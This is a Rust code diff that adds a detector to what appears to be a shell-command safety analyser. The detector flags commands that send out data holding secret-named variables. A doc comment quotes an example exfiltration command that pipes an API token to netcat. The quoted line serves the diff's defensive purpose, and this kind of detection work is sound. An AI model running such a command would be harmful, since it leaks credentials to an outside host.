@@ -5,7 +5,8 @@ use std::borrow::Cow;
 use super::Assessor;
 use super::uses::{Giver, Use};
 use crate::effect::{Class, Effect};
-use crate::follow::step::{Arg, Command, Input};
+use crate::follow::step::{Arg, Command, Input, Source};
+use crate::payload::secrets::is_secret_variable;
 use crate::payload::{Carried, Language, editors};
 use crate::rules::carry::{self, Added, Carrier};
 use crate::rules::read::{self, Given};
@@ -188,7 +189,7 @@ impl<'a> Assessor<'a, '_> {
             return;
         }
         if role == Role::Sends {
-            if world.is_secret_input(&self.command.input) {
+            if world.is_secret_input(&self.command.input) || holds_secret_variable(&self.command.input) {
                 assessment.find(destructive(form.id, Effect::Disclose, self.span, "", "sends something secret out"));
             }
             return;
@@ -266,6 +267,12 @@ impl Assessor<'_, '_> {
             assessment.findings.extend(named);
         }
     }
+}
+
+/// `echo $API_TOKEN | nc host 9`: what is sent holds a variable whose name says that it is secret.
+fn holds_secret_variable(input: &Input) -> bool {
+    let Input::Mixed(text) = input else { return false };
+    text.holes().any(|hole| matches!(&hole.source, Source::Variable(name) if is_secret_variable(name)))
 }
 
 /// Code that edits the files that it reads, with its own word for printing nothing by itself.
